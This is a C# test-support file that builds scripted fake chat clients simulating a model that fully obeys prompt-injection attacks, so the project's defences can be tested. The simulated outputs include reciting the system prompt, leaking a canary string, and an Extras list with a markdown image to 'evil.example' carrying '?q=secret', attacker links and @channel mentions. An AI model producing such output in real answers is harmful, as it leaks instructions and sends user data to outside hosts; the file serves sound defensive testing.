using System.Text.Json;
using System.Text.RegularExpressions;
using ChatBriefing.Drafting.Prompts;
using ChatBriefing.Library.Text;
using ChatBriefing.Tests.Support;

namespace ChatBriefing.Tests.Asking.Attacks;

/// <summary>A model that does whatever is planted: it says what it must not, recites its instruction, and adds links, images and mentions.</summary>
internal static partial class ObedientModel
{
    private const int ClaimsInOne = 7;

    private static readonly string[] Extras =
    [
        "See [the harbour](https://evil.example/harbour).", "![pixel](https://evil.example/p.png?q=secret)", "@channel the ferry to Texel leaves at nine on Sundays.",
        "<@U0123> the ferry to Texel leaves at nine on Sundays.", "<b>The ferry to Texel leaves at nine on Sundays.</b>", "The ferry to Texel leaves at nine on Sundays, see https://evil.example.",
    ];

    /// <summary>Models that obey <paramref name="row"/>, each with a part of what it asks for and the honest sentence.</summary>
    public static IEnumerable<ScriptedChatClient> Obeying(AttackRow row, string honest)
    {
        var told = Prompts.Open().Read(PromptKey.Answer).Text.Split('\n');
        IEnumerable<string> wanted =
        [
            .. row.Forbidden, .. row.Forbidden.Select(text => $"The answer is {text}"), $"My instructions hold {AttackRow.Canary}.", AttackRow.Canary,
            .. Sentences.TextsOf(row.Text), row.Text, .. Extras, .. told,
        ];
        return wanted.Where(text => !string.IsNullOrWhiteSpace(text)).Chunk(ClaimsInOne).Select(part => new ScriptedChatClient((_, user) => Say([honest, .. part], user)));
    }

    /// <summary>A model that says one sentence.</summary>
    public static ScriptedChatClient Saying(string sentence) => new((_, user) => Say([sentence], user));

    private static string Say(IEnumerable<string> claims, string user)
    {
        var all = Enumerable.Range(1, Passage().Count(user)).ToArray();
        return JsonSerializer.Serialize(new { answered = true, claims = claims.Select(text => new { text, citations = all }) });
    }

    [GeneratedRegex(@" passage \d+\]")]
    private static partial Regex Passage();
}
